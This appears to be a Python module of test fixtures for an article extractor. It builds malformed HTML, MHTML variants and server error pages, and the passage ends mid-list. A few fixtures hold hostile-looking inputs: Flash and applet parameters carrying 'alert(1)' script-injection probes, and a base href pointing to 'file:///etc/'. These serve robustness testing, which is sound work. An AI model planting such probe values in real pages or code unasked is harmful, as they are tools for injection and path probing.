"""Kinds of bad input: saved pages, also as MHTML, and what a server sends in place of one."""

import base64
import gzip
import json
import quopri

from bad_inputs.kinds import Kind, Stories
from bad_inputs.make_packs import story_page
from bad_inputs.make_pages import COOKIES, PNG, between, meta, notice, paragraphs_on_lines, picture
from bad_inputs.make_tables import DAY, linked
from bad_inputs.make_texts import (
    CHINESE,
    RUSSIAN,
    TONGUES,
    feed,
    listed,
    message,
    mhtml,
    mhtml_of_parts,
    paragraphs,
    random_bytes,
    said,
)
from bad_inputs.reasons import FORM_NOT_KNOWN, NO_BODY_FOUND, NO_STORY, NOT_AN_ARTICLE


def chrome(s: Stories) -> bytes:
    """Return MHTML as a browser saves it."""
    bound = b"----MultipartBoundary--abc----"
    head = (
        b"From: <Saved by Blink>\r\nSnapshot-Content-Location: https://l.example/rain\r\nSubject: Rain\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/related;\r\n\ttype="text/html";\r\n\tboundary="' + bound + b'"\r\n\r\n\r\n'
    )
    part = (
        b"Content-Type: text/html\r\nContent-ID: <f@mhtml.blink>\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
    )
    return (
        head + b"--" + bound + b"\r\n" + part + quopri.encodestring(s.page().encode()) + b"\r\n--" + bound + b"--\r\n"
    )


def live(s: Stories) -> str:
    posts = "".join(
        f"<div class='post'><time>10:0{n}</time><h3>Post {n}</h3><p>{s.text(n)}</p></div>" for n in range(1, 9)
    )
    return f"<!DOCTYPE html><html><head><title>Live: rain in {s.mark}</title></head><body><main><h1>Live: rain in {s.mark}</h1>{posts}</main></body></html>"


def list_of_links(s: Stories) -> str:
    cards = "".join(f"<div class='card'><a href='/{n}'><h3>Rain {n} in {s.mark}</h3></a></div>" for n in range(30))
    return f"<!DOCTYPE html><html><head><title>Latest</title></head><body><main>{cards}</main></body></html>"


def own_elements(s):
    story = "".join(f"<ledger-text><p>{part}</p></ledger-text>" for part in s.long().split("\n\n"))
    return f"<!DOCTYPE html><html><head><title>Rain 1 in {s.mark}</title></head><body><ledger-app><ledger-story><ledger-headline><h1>Rain 1 in {s.mark}</h1></ledger-headline>{story}</ledger-story></ledger-app></body></html>"


PLUGINS = '<object data="rain.swf" type="application/x-shockwave-flash"><param name="movie" value="rain.swf"><embed src="rain.swf" flashvars="go=alert(1)"></object><applet code="Rain.class" width="1"><param name="go" value="alert(2)"></applet>'


def small(text):
    """Return a message with the labels of its headers in small letters."""
    lines = text.split("\r\n")
    labels = ("From", "Snapshot", "Subject", "Date", "MIME", "Content")
    return "\r\n".join(
        line.partition(":")[0].lower() + ":" + line.partition(":")[2]
        if line.startswith(labels) and ":" in line[:30]
        else line
        for line in lines
    )


LOST = "<!DOCTYPE html><html><head><title>Page not found</title></head><body><h1>Page not found</h1><p>The page that you are looking for is not here. Please go back to the home page.</p></body></html>"


def word_page(s):
    html = (
        '<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40">\n'
        f'<head><meta http-equiv=Content-Type content="text/html; charset=us-ascii"><meta name=Generator content="Microsoft Word 15"><title>Rain 1 in {s.mark}</title>\n'
        "<style><!-- p.MsoNormal {margin:0in;font-size:12.0pt;} --></style></head>\n<body lang=EN-US><div class=WordSection1>\n"
        f"<h1>Rain 1 in {s.mark}<o:p></o:p></h1>\n"
        + "".join(
            f"<p class=MsoNormal>{part}<o:p></o:p></p>\n<p class=MsoNormal><o:p>&nbsp;</o:p></p>\n"
            for part in s.long().split("\n\n")
        )
        + "</div></body></html>\n"
    )
    text = (
        'MIME-Version: 1.0\nContent-Type: multipart/related; boundary="----=_NextPart_01DC0000.00000000"\n\n'
        "This document is a Single File Web Page, also known as a Web Archive file.  If you are seeing this message, your browser or editor doesn't support Web Archive files.\n\n"
        "------=_NextPart_01DC0000.00000000\nContent-Location: file:///C:/0000/Rain.htm\nContent-Transfer-Encoding: quoted-printable\n"
        'Content-Type: text/html; charset="us-ascii"\n\n' + quopri.encodestring(html.encode()).decode() + "\n\n"
        "------=_NextPart_01DC0000.00000000\nContent-Location: file:///C:/0000/Rain_files/filelist.xml\nContent-Transfer-Encoding: quoted-printable\n"
        'Content-Type: text/xml; charset="utf-8"\n\n<xml xmlns:o=3D"urn:schemas-microsoft-com:office:office"><o:File HRef=3D"filelist.xml"/></xml>\n'
        "------=_NextPart_01DC0000.00000000--\n"
    )
    return text.replace("\n", "\r\n")


def print_view(s):
    return (
        f"<HTML><HEAD><TITLE>Rain 1 in {s.mark} - printer friendly</TITLE></HEAD><BODY BGCOLOR=#FFFFFF><CENTER><FONT SIZE=+2><B>Rain 1 in {s.mark}</B></FONT></CENTER><HR>"
        "<FONT FACE=Times SIZE=3>" + "<BR><BR>\n".join(s.long().split("\n\n")) + "</FONT><HR></BODY></HTML>"
    )


TOMCAT = '<!doctype html><html lang="en"><head><title>HTTP Status 404 – Not Found</title><style type="text/css">body {font-family:Tahoma;}</style></head><body><h1>HTTP Status 404 – Not Found</h1><hr class="line" /><p><b>Type</b> Status Report</p><p><b>Message</b> The requested resource [/rain] is not available</p><p><b>Description</b> The origin server did not find a current representation for the target resource or is not willing to disclose that one exists.</p><hr class="line" /><h3>Apache Tomcat/9.0.80</h3></body></html>'
ASPNET = "<!DOCTYPE html><html><head><title>Runtime Error</title></head><body bgcolor=\"white\"><span><H1>Server Error in '/' Application.<hr width=100% size=1 color=silver></H1><h2> <i>Runtime Error</i> </h2></span><b> Description: </b>An application error occurred on the server. The current custom error settings for this application prevent the details of the application error from being viewed remotely (for security reasons). It could, however, be viewed by browsers running on the local server machine.<br><br><b>Details:</b> To enable the details of this specific error message to be viewable on remote machines, please create a &lt;customErrors&gt; tag within a &quot;web.config&quot; configuration file located in the root directory of the current web application.</body></html>"
DATABASE = '<!DOCTYPE html><html lang="en-US"><head><meta charset="utf-8"><title>Database Error</title></head><body id="error-page"><div class="wp-die-message"><h1>Error establishing a database connection</h1></div></body></html>'


# ---------------------------------------------------------------- pages
def medium(s):
    story = "".join(
        f'<p name="a{n}" id="a{n}" class="graf graf--p">{p}</p>' for n, p in enumerate(s.long().split("\n\n"))
    )
    return (
        f'<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>Rain in {s.mark}</title></head><body>'
        f'<article class="h-entry"><header><h1 class="p-name">Rain in {s.mark}</h1></header><section data-field="body" class="e-content">'
        f'<section name="s1" class="section section--body"><div class="section-content"><div class="section-inner sectionLayout--insetColumn">{story}</div></div></section></section>'
        '<footer><p>By <a href="https://m.example/@ana" class="p-author h-card">Ana Roe</a> on <a href="https://m.example/p/1"><time class="dt-published" datetime="2026-03-01T10:00:00.000Z">March 1, 2026</time></a>.</p></footer></article></body></html>'
    )


def evernote(s):
    story = "".join(f"<div>{p}</div><div><br/></div>" for p in s.long().split("\n\n"))
    return (
        '<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"/><meta name="exporter-version" content="Evernote Mac 10.1"/>'
        f'<meta name="author" content="Ana Roe"/><meta name="created" content="2026-03-01 10:00:00 +0000"/><title>Rain in {s.mark}</title></head>'
        f'<body><a name="1"/><h1>Rain in {s.mark}</h1><div><span>{story}</span></div></body></html>'
    )


def mht_explorer(s):
    page = s.page().replace("=", "=3D").replace("<p>", "=\r\n<p>")
    return (
        'From: "Saved by Internet Explorer 11"\r\nSubject: Rain\r\nDate: Sun, 1 Mar 2026 10:00:00 -0500\r\nMIME-Version: 1.0\r\n'
        'Content-Type: text/html;\r\n\tcharset="utf-8"\r\nContent-Transfer-Encoding: quoted-printable\r\nContent-Location: https://l.example/rain\r\n'
        f"X-MimeOLE: Produced By Microsoft MimeOLE V6.1.7601.24158\r\n\r\n{page}\r\n"
    )


def blocks(s):
    return "\n\n".join(
        [
            "<!-- wp:heading -->\n<h2>Rain in " + s.mark + "</h2>\n<!-- /wp:heading -->",
            *(f"<!-- wp:paragraph -->\n<p>{part}</p>\n<!-- /wp:paragraph -->" for part in s.long().split("\n\n")),
        ]
    )


def archived_today(s):
    story = "".join(
        f'<div style="box-sizing:border-box;margin:0px 0px 16px;color:rgb(51, 51, 51);font-family:Georgia, serif;display:block;">{part}</div>'
        for part in s.long().split("\n\n")
    )
    return f'<!DOCTYPE html><html prefix="og: http://ogp.me/ns#" itemscope=""><head><title>Rain in {s.mark} | The Ledger</title><meta property="og:site_name" content="archive.example"/></head><body style="margin:0;background-color:#EEEEEE"><center><div id="HEADER"><table style="width:1024px"><tr><td><a href="/">archive.example</a><br/>webpage capture</td><td>Saved from</td><td><form><input type="text" value="https://l.example/rain" readonly=""/></form></td><td>14 Mar 2026 09:00:00 UTC</td></tr><tr><td>All snapshots</td><td>from host l.example</td></tr></table></div><div id="SOLID"><div id="CONTENT"><div class="html1"><div class="body"><div style="display:block"><div style="display:block;font-size:32px;" role="heading">Rain in {s.mark}</div><div style="display:block">By Ana Roe</div><div style="display:block">March 13, 2026</div>{story}</div></div></div></div></div></center></body></html>'


WE = '<meta name="savepage-url" content="https://l.example/rain"><meta name="savepage-title" content="Rain"><meta name="savepage-pubdate" content="Unknown"><meta name="savepage-from" content="https://l.example/rain"><meta name="savepage-date" content="Sat Mar 14 2026 09:00:00 GMT+0100 (Central European Standard Time)"><meta name="savepage-state" content="Standard Items; Retain cross-origin frames;"><meta name="savepage-version" content="28.11"><script data-savepage-type="" type="text/plain" data-savepage-src="https://l.example/a.js"></script><style data-savepage-href="https://l.example/a.css">body{margin:0}</style><script id="savepage-shadowloader" type="text/javascript">"use strict";window.addEventListener("DOMContentLoaded",function(e){savepage_ShadowLoader(5);},false);function savepage_ShadowLoader(c){}</script>'


def mht_of_one(s):
    import quopri

    body = quopri.encodestring(s.page().encode()).decode().replace("\r\n", "\n").replace("\n", "\r\n")
    return f'From: <Saved by Windows Internet Explorer 8>\r\nSubject: Rain 1 in {s.mark}\r\nDate: Sat, 14 Mar 2026 09:00:00 +0100\r\nMIME-Version: 1.0\r\nContent-Type: text/html;\r\n\tcharset="utf-8"\r\nContent-Transfer-Encoding: quoted-printable\r\nContent-Location: https://l.example/rain\r\nX-MimeOLE: Produced By Microsoft MimeOLE V6.00.2900.5579\r\n\r\n{body}'


THAI_HEADLINE = "ฝนตกหนักในเมือง"


def brazil(s):
    body = f"<p>A chuva caiu na cidade de {s.mark} na sexta-feira, e a câmara, que se reunira para falar da seca, foi para casa mais cedo, sem votar, disse o secretário.</p><p>Ninguém em {s.mark} tinha trazido guarda-chuva para a reunião, e o prefeito pediu desculpas aos moradores que esperavam na praça.</p><p>A próxima sessão está marcada para abril, se não chover outra vez.</p>"
    return f'<!DOCTYPE html><html lang="pt-BR"><head><meta charset="utf-8"><title>Chuva encerra sessão em {s.mark} | O Diário</title><meta property="og:site_name" content="O Diário"><meta property="article:published_time" content="2026-03-13T10:00:00-03:00"></head><body><main><article><h1>Chuva encerra sessão em {s.mark}</h1><p class="info">13/03/2026 10h00 | Atualizado há 2 horas</p>{body}</article></main></body></html>'


def korean_page(s):
    head, *parts = (part.format(m=s.mark) for part in TONGUES["Korean"])
    story = "".join(f"<p>{part}</p>" for part in parts)
    return f'<!DOCTYPE html><html lang="ko"><head><meta http-equiv="Content-Type" content="text/html; charset=euc-kr"><title>{head}</title></head><body><article><h1>{head}</h1>{story}</article></body></html>'.encode(
        "euc-kr"
    )


def amp(s):
    return (
        '<!doctype html><html ⚡ lang="en"><head><meta charset="utf-8"><script async src="https://cdn.ampproject.example/v0.js"></script>'
        f'<title>Rain 1 in {s.mark}</title><link rel="canonical" href="https://ledger.example/rain"><meta name="viewport" content="width=device-width">'
        "<style amp-boilerplate>body{animation:-amp-start 8s steps(1,end) 0s 1 normal both}@keyframes -amp-start{from{visibility:hidden}to{visibility:visible}}</style>"
        "<noscript><style amp-boilerplate>body{animation:none}</style></noscript></head><body>"
        '<amp-sidebar id="side" layout="nodisplay"><ul><li><a href="/">Home</a></li><li><a href="/sports">Sports</a></li></ul></amp-sidebar>'
        f'<main><h1>Rain 1 in {s.mark}</h1><amp-img src="a.jpg" width="600" height="400" layout="responsive"></amp-img>'
        f'<div class="article-body">{paragraphs_on_lines(s)}</div><amp-ad width="300" height="250" type="none"></amp-ad></main></body></html>'
    )


def reading_view(s):
    return (
        f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>Rain 1 in {s.mark}</title></head><body><div class="container" dir="ltr">'
        f'<div class="header reader-header"><a class="domain reader-domain" href="https://ledger.example/rain">ledger.example</a><h1 class="reader-title">Rain 1 in {s.mark}</h1>'
        '<div class="credits reader-credits">Ana Roe</div><div class="meta-data"><div class="reader-estimated-time">2 minutes</div></div></div><hr>'
        f'<div class="content"><div class="moz-reader-content reader-show-element"><div id="readability-page-1" class="page">{paragraphs_on_lines(s)}</div></div></div></div></body></html>'
    )


def shadow(s):
    return (
        f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>Rain 1 in {s.mark}</title></head><body><header>The Marlow Ledger</header>'
        f'<news-story><template shadowrootmode="open"><style>p{{margin:0}}</style><article><h1>Rain 1 in {s.mark}</h1>{paragraphs_on_lines(s)}</article></template></news-story></body></html>'
    )


def mht_start(s):
    picture = base64.b64encode(random_bytes(300)).decode()
    return (
        'MIME-Version: 1.0\r\nContent-Type: multipart/related; type="text/html"; start="<page@l.example>"; boundary="=_next"\r\n\r\n'
        f"--=_next\r\nContent-Type: image/png\r\nContent-ID: <p1@l.example>\r\nContent-Transfer-Encoding: base64\r\n\r\n{picture}\r\n"
        "--=_next\r\nContent-Type: text/html; charset=utf-8\r\nContent-ID: <page@l.example>\r\nContent-Transfer-Encoding: 8bit\r\nContent-Location: https://l.example/rain\r\n\r\n"
        f"{s.page()}\r\n--=_next--\r\n"
    )


def explorer(s):
    story = paragraphs(s).replace("<p>", "<P class=body>").replace("</p>", "</P>\r\n")
    return (
        '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN">\r\n<!-- saved from url=(0027)https://l.example/rain.html -->\r\n'
        f"<HTML><HEAD><TITLE>Rain in {s.mark}</TITLE>\r\n<META content='text/html; charset=utf-8' http-equiv=Content-Type>\r\n<META name=GENERATOR content='MSHTML 8.00.7601'></HEAD>\r\n"
        f"<BODY bgColor=#ffffff><DIV id=story><H1>Rain in {s.mark}</H1>\r\n{story}</DIV></BODY></HTML>\r\n"
    )


def each_paragraph(s, n=1):
    return [f"<p>{p}</p>" for p in s.long(n).split("\n\n")]


def whole(title, body, head=""):
    return f'<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>{title}</title>{head}</head><body>{body}</body></html>'


def lazy(s):
    figure = '<figure class="lazy"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-src="https://l.example/1.jpg"><noscript><img src="https://l.example/1.jpg" alt="Rain"></noscript><figcaption>A wet street.</figcaption></figure>'
    return whole(
        f"Rain 1 in {s.mark}", f"<article><h1>Rain 1 in {s.mark}</h1>" + figure.join(each_paragraph(s)) + "</article>"
    )


def newsletter(s):
    widget = '<div class="subscription-widget-wrap"><form><input type="email" placeholder="Type your email..."><input type="submit" value="Subscribe"></form></div>'
    a, b, c, d = each_paragraph(s)
    return whole(
        f"Rain 1 in {s.mark} - by Ana Roe",
        f'<div id="main"><article class="typography newsletter-post post"><div class="post-header"><h1 class="post-title published">Rain 1 in {s.mark}</h1><h3 class="subtitle">Notes on a wet week</h3></div><div class="available-content"><div class="body markup">{a}{b}{widget}{c}{d}</div></div></article></div>',
    )


def drupal(s):
    return whole(
        f"Rain 1 in {s.mark} | The Ledger",
        f'<div class="dialog-off-canvas-main-canvas"><header><nav><ul><li><a href="/">Home</a></li><li><a href="/news">News</a></li></ul></nav></header><main role="main"><a id="main-content" tabindex="-1"></a><h1><span class="field field--name-title field--type-string">Rain 1 in {s.mark}</span></h1><article role="article" class="node node--type-article"><div class="node__content"><div class="clearfix text-formatted field field--name-body field--type-text-with-summary">{paragraphs(s)}</div></div></article></main></div>',
        '<meta name="Generator" content="Drupal 10 (https://www.drupal.org)">',
    )


def builder(s):
    cells = "".join(
        f'<p class="font_8 wixui-rich-text__text" style="font-size:18px"><span style="font-size:18px;"><span class="color_15">{p}</span></span></p>'
        for p in s.long().split("\n\n")
    )
    return whole(
        f"Rain 1 in {s.mark}",
        f'<div id="SITE_CONTAINER"><div id="PAGES_CONTAINER"><section><div data-testid="richTextElement"><h1 class="font_2">Rain 1 in {s.mark}</h1></div><div data-testid="richTextElement">{cells}</div></section></div></div>',
    )


def fusion(s):
    held = json.dumps(
        {
            "_id": "A1",
            "type": "story",
            "headlines": {"basic": f"Rain 1 in {s.mark}"},
            "content_elements": [{"type": "text", "content": p} for p in s.long().split("\n\n")],
        }
    )
    return whole(
        f"Rain 1 in {s.mark}",
        f'<div id="fusion-app"><main><h1>Rain 1 in {s.mark}</h1><article class="article-body">{paragraphs(s)}</article></main></div>',
        f"<script>window.Fusion=window.Fusion||{{}};Fusion.globalContent={held};</script>",
    )


HEBREW = "גשם ירד על העיירה {m} ביום ראשון, והמועצה, שהתכנסה לדון בבצורת, הלכה הביתה מוקדם בלי הצבעה. איש לא הביא מטרייה, אמרה המזכירה של {m}."


def rtl(s):
    body = "".join(f"<p>{word} {HEBREW.format(m=s.mark)}</p>" for word in ("בבוקר", "בצהריים", "בערב", "בלילה"))
    return f'<!DOCTYPE html><html lang="he" dir="rtl"><head><meta charset="utf-8"><title>גשם ביום ראשון</title></head><body><article><h1>גשם ביום ראשון</h1>{body}</article></body></html>'


def two_types(s):
    held = json.dumps(
        {
            "@context": "https://schema.org",
            "@type": ["NewsArticle", "AnalysisNewsArticle"],
            "headline": f"Rain 1 in {s.mark}",
            "datePublished": "2026-03-02T08:00:00Z",
            "author": [{"@type": "Person", "name": "Ana Roe"}],
        }
    )
    return s.page(head=f'<script type="application/ld+json">{held}</script>')


def mht_subject(s):
    body = quopri.encodestring(s.page().encode()).decode().replace("\r\n", "\n")
    return (
        "From: <Saved by Blink>\nSnapshot-Content-Location: https://l.example/1\nSubject: =?utf-8?Q?Rain=20=E2=80=93=20the=20council=20goes=20home=20early?=\n"
        " =?utf-8?Q?=20without=20a=20vote=20=E2=80=94=20The=20Ledger?=\nDate: Sun, 1 Mar 2026 10:00:00 -0000\nMIME-Version: 1.0\n"
        'Content-Type: multipart/related;\n\ttype="text/html";\n\tboundary="----MultipartBoundary--Ab1Cd2----"\n\n\n------MultipartBoundary--Ab1Cd2----\n'
        f"Content-Type: text/html\nContent-ID: <frame-A1@mhtml.blink>\nContent-Transfer-Encoding: quoted-printable\nContent-Location: https://l.example/1\n\n{body}\n"
        "------MultipartBoundary--Ab1Cd2------\n"
    ).replace("\n", "\r\n")


def twice_shown(s):
    story = f"<h1>Rain 1 in {s.mark}</h1>{''.join(each_paragraph(s))}"
    return whole(
        f"Rain 1 in {s.mark}",
        f'<div class="hidden-desktop mobile-only"><article>{story}</article></div><div class="hidden-mobile desktop-only"><article>{story}</article></div>',
    )


def cut_in_third(s):
    """Return a page cut in the middle of a word of its third paragraph."""
    page = s.page()
    return page[: page.index("Snow fell") + 60]


KINDS = [
    Kind("page", "a.html", Stories.page, 1),
    Kind("blank lines above a page", "a.html", lambda s: "\n\n \n" + s.page(), 1),
    Kind("words above a page", "a.html", lambda s: "Saved by hand\n" + s.page(), 1),
    Kind("comment above a page", "a.html", lambda s: s.page(before="<!-- saved from url=(0026)https://l.example/ -->\n"), 1),
    Kind("XML declaration above a page", "a.html", lambda s: s.page(before='<?xml version="1.0" encoding="utf-8"?>\n'), 1),
    Kind("HTTP header above a page", "a.html", lambda s: "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n" + s.page(), 1),
    Kind("400 letters in bold, never closed", "a.html", lambda s: s.page("<b>R" * 400, after="And more of it."), 1),
    Kind("tags never closed", "a.html", lambda s: s.page().replace("</p>", "").replace("</article>", ""), 1),
    Kind("page cut off in a tag", "a.html", lambda s: s.page() [: s.page().index("</article>")] + "<p cla", 1),
    Kind("comment never closed", "a.html", lambda s: s.page(after="<!-- and so on"), 1),
    Kind("half a character in a page", "a.html", lambda s: s.page().encode().replace(b"council", b"coun\xed\xa0\x80cil", 1), 1),
    Kind("numbers of no character", "a.html", lambda s: s.page("<p>&#0; &#x110000; &#xD800; &bogus; &amp;amp;</p>"), 1),
    Kind("bracket in a link", "a.html", lambda s: s.page('<p><a href="http://[">more of it here</a> and there, he said.</p>'), 1),
    Kind("base that is none", "a.html", lambda s: s.page(head='<base href="//[::">'), 1),
    Kind("date of 400 digits in a page", "a.html", lambda s: s.page(head=meta("article:published_time", "9" * 400)), 1),
    Kind("zone of 99 hours in a page", "a.html", lambda s: s.page(head=meta("article:published_time", "2026-03-03T06:00:00+99:00")), 1),
    Kind("year 1 in a page", "a.html", lambda s: s.page(head=meta("article:published_time", "0001-01-01T00:00:00+05:00")), 1),
    Kind("linked data that are broken", "a.html", lambda s: s.page(head=linked('{"@type": "NewsArticle", "headline": ')), 1),
    Kind("linked data with lists", "a.html", lambda s: s.page(head=linked({"headline": [["Rain"]], "datePublished": [[2026]], "publisher": [[{}]]})), 1),
    Kind("linked data with numbers", "a.html", lambda s: s.page(head=linked({"headline": 7, "datePublished": 7, "author": 7, "publisher": 7})), 1),
    Kind("linked data null", "a.html", lambda s: s.page(head=linked({"headline": None, "datePublished": None, "author": [None]})), 1),
    Kind("page of links", "a.html", lambda s: f"<html><body>{'<a href=/x>Home</a> ' * 40}</body></html>", 0, ("no story",)),
    Kind("frames", "a.html", lambda s: "<html><frameset><frame src=a.html></frameset></html>", 0, NO_BODY_FOUND),
    Kind("page without words", "a.html", lambda s: "<html><body></body></html>", 0, NO_BODY_FOUND),
    Kind("tag alone", "a.html", lambda s: "<html>", 0, NO_BODY_FOUND),
    Kind("two pages in a file", "a.html", lambda s: s.page() + s.page(), 1, repeats=1),
    Kind("style sheet in a page", "a.html", lambda s: s.page("<style>p { color: red }</style>"), 1),
    Kind("MHTML", "a.mhtml", message, 1),
    Kind("MHTML quoted, with letters beside", "a.mhtml", lambda s: message(s, encoding="quoted-printable").replace(b"council", "café “council”".encode()), 1),
    Kind("MHTML quoted", "a.mhtml", lambda s: message(s, encoding="quoted-printable"), 1),
    Kind("MHTML in base64", "a.mht", lambda s: message(s, encoding="base64"), 1),
    Kind("MHTML without its end", "a.mhtml", lambda s: message(s, end=""), 1),
    Kind("MHTML without a page", "a.mhtml", lambda s: message(s, kind="image/png"), 0, FORM_NOT_KNOWN),
    Kind("MHTML without a part", "a.mhtml", lambda s: message(s).partition(b"--x\r\n")[0], 0, FORM_NOT_KNOWN),
    Kind("MHTML in base64, damaged", "a.mht", lambda s: message(s, encoding="base64").replace(b"PHA", b"P?A", 1), 0, NO_BODY_FOUND),
    Kind("list as a browser saves it", "a.html", lambda s: f"<html><head></head><body><pre>{listed(s)}</pre></body></html>", 3),
    Kind("page in capitals", "a.html", lambda s: s.page().replace("<p>", "<P>").replace("<article>", "<ARTICLE>"), 1),
    Kind("page of XHTML", "a.xhtml", lambda s: s.page(before='<?xml version="1.0"?>', head="<script><![CDATA[ if (a < b) go() ]]></script>"), 1),
    Kind("remarks for an old browser", "a.html", lambda s: s.page("<!--[if IE]><p>Old.</p><![endif]-->"), 1),
    Kind("template in a page", "a.html", lambda s: s.page("<template><p>{{ story }} and {{ more }}</p></template>"), 1),
    Kind("picture of 2 MB in a page", "a.html", lambda s: s.page(f'<img src="data:image/png;base64,{"iVBO" * 500_000}">'), 1),
    Kind("page that sends on", "a.html", lambda s: '<html><head><meta http-equiv="refresh" content="0; url=https://l.example"></head><body></body></html>', 0, ("no body found",)),
    Kind("soft hyphens in a page", "a.html", lambda s: s.page().replace("council", "coun\u00adcil"), 1, (), "zero-width"),
    Kind("headline turned around in a page", "a.html", lambda s: s.page().replace("<h1>", "<h1>\u202e"), 1, (), "bidi"),
    Kind("page packed by gzip under its own name", "a.html", lambda s: gzip.compress(s.page().encode()), 1),
    Kind("linked data with the story as markup", "a.html", lambda s: s.page(head=linked({"articleBody": "<p>" + s.long() + "</p>"})), 1),
    Kind("linked data with a graph in itself", "a.html", lambda s: s.page(head=linked({"@graph": [{"@graph": [{"@type": "NewsArticle", "headline": "Rain"}]}]})), 1),
    Kind("500 headlines", "a.html", lambda s: s.page("<h1>Rain</h1>" * 500), 1),
    Kind("form in a page", "a.html", lambda s: s.page("<form><textarea>Rain</textarea><input value='x'></form>"), 1),
    Kind("MHTML with line ends of one sign", "a.mhtml", lambda s: message(s).replace(b"\r\n", b"\n"), 1),
    Kind("MHTML with a bound in quotation marks and blanks", "a.mhtml", lambda s: message(s).replace(b'boundary="x"', b'boundary="x y"').replace(b"--x", b"--x y"), 1),
    Kind("MHTML with a folded header", "a.mhtml", lambda s: message(s).replace(b"multipart/related; ", b"multipart/related;\r\n\t"), 1),
    Kind("page that is user-defined", "a.html", lambda s: s.page(head='<meta charset="x-user-defined">'), 1),
    Kind("base in the file system", "a.html", lambda s: s.page(head='<base href="file:///etc/">'), 1),
    Kind("reference beyond all signs", "a.html", lambda s: s.page("<p>&#x1F600000;&#99999999999999;&#0;&#xD800;</p>"), 1),
    Kind("page that is one comment", "a.html", lambda s: "<!-- " + s.page(), 1),
    Kind("title never closed", "a.html", lambda s: s.page().replace("</title>", ""), 1),
    Kind("frame with the page in an attribute", "a.html", lambda s: "<html><body><iframe srcdoc='" + s.page().replace("'", "") + "'></iframe></body></html>", 0, ("no body found",)),
    Kind("linked data in a comment", "a.html", lambda s: s.page(head='<script type="application/ld+json"><!-- {"@type": "NewsArticle", "datePublished": "2026-03-03"} --></script>'), 1),
    Kind("page by SingleFile", "a.html", lambda s: s.page(before="<!-- Page saved with SingleFile \n url: https://l.example/rain \n saved date: Tue Mar 03 2026 -->", head="<style>:root{--sf-img-1:url(data:image/png;base64,iVBOR)}</style>"), 1),
    Kind("source of a page as shown", "a.html", lambda s: "<html><body><pre>" + s.page().replace("&", "&amp;").replace("<", "&lt;") + "</pre></body></html>", 1),
    Kind("MHTML of a browser", "a.mhtml", chrome, 1),
    Kind("MHTML with parts in parts", "a.mht", lambda s: b'MIME-Version: 1.0\r\nSubject: Rain\r\nContent-Type: multipart/related; boundary="o"\r\n\r\n--o\r\nContent-Type: multipart/alternative; boundary="i"\r\n\r\n--i\r\nContent-Type: text/plain\r\n\r\nRain.\r\n--i\r\nContent-Type: text/html; charset=utf-8\r\n\r\n' + s.page().encode() + b"\r\n--i--\r\n--o--\r\n", 1),
    Kind("gzip named as a page", "a.html", lambda s: gzip.compress(s.table().encode()), 3),
    Kind(
        "a page saved complete",
        "rain.html",
        lambda s: s.page(
            head='<link rel="stylesheet" href="./rain_files/a.css"><script src="./rain_files/a.js.download"></script>',
            before=f"<!-- saved from url=(0041)https://{s.mark.lower()}.example/rain -->\n",
        ),
        1,
    ),
    Kind(
        "MHTML in base64 with a picture",
        "rain.mht",
        lambda s: mhtml_of_parts(
            [
                ("text/html", "https://marlow.example/rain", "base64", base64.b64encode(s.page().encode()).decode()),
                ("image/png", "https://marlow.example/a.png", "base64", "iVBORw0KGgo="),
            ]
        ),
        1,
    ),
    Kind(
        "MHTML with an advertisement in a frame",
        "rain.mhtml",
        lambda s: mhtml_of_parts(
            [
                ("text/html", "https://marlow.example/rain", "8bit", s.page()),
                ("text/html", "https://ads.example/x", "8bit", "<html><body><p>Buy now.</p></body></html>"),
            ]
        ),
        1,
    ),
    Kind(
        "MHTML that breaks off",
        "rain.mhtml",
        lambda s: mhtml_of_parts([("text/html", "https://marlow.example/rain", "8bit", s.page())])[:-300],
        1,
    ),
    Kind(
        "a wall of cookies",
        "a.html",
        lambda s: (
            "<html><head><title>We value your privacy</title></head><body><div class='consent'><h2>We value your privacy</h2><p>We and our partners store information on a device, such as cookies.</p><button>Accept all</button><button>Reject all</button></div></body></html>"
        ),
        0,
        ("not an article",),
    ),
    Kind(
        "a page that was not found",
        "a.html",
        lambda s: (
            "<html><head><title>404 Not Found</title></head><body><center><h1>404 Not Found</h1></center><hr><center>nginx</center></body></html>"
        ),
        0,
        ("not an article",),
    ),
    Kind(
        "a check whether one is a robot",
        "a.html",
        lambda s: (
            "<html><head><title>Just a moment...</title></head><body><h1>marlow.example</h1><p>Verify you are human by completing the action below.</p><p>marlow.example needs to review the security of your connection before proceeding.</p><noscript>Enable JavaScript and cookies to continue</noscript></body></html>"
        ),
        0,
        ("not an article",),
    ),
    Kind(
        "a gateway that failed",
        "a.html",
        lambda s: (
            "<html><head><title>502 Bad Gateway</title></head><body><h1>502 Bad Gateway</h1><p>The server returned an invalid or incomplete response.</p></body></html>"
        ),
        0,
        ("not an article",),
    ),
    Kind(
        "a page to log in",
        "a.html",
        lambda s: (
            "<html><head><title>Log in</title></head><body><form><h1>Log in to your account</h1><label>Email</label><input><label>Password</label><input type=password><button>Log in</button><p>Forgot your password?</p></form></body></html>"
        ),
        0,
        ("not an article",),
    ),
    Kind(
        "meta refresh",
        "a.html",
        lambda s: (
            '<html><head><meta http-equiv="refresh" content="0; url=https://marlow.example/"></head><body>Redirecting...</body></html>'
        ),
        0,
        ("no story",),
    ),
    Kind(
        "a story in the JSON-LD alone",
        "a.html",
        lambda s: (
            '<html><head><script type="application/ld+json">'
            + json.dumps(
                {"@type": "NewsArticle", "headline": "Rain", "datePublished": "2026-03-01", "articleBody": s.long()}
            )
            + "</script></head><body><div id='root'></div></body></html>"
        ),
        1,
        fields={"published": "2026-03-01"},
    ),
    Kind(
        "the source of a page as the browser shows it",
        "a.html",
        lambda s: (
            "<html><body><table>"
            + "".join(
                f"<tr><td class='line-number'></td><td class='line-content'>&lt;p&gt;{s.text(n)}&lt;/p&gt;</td></tr>"
                for n in (1, 2, 3)
            )
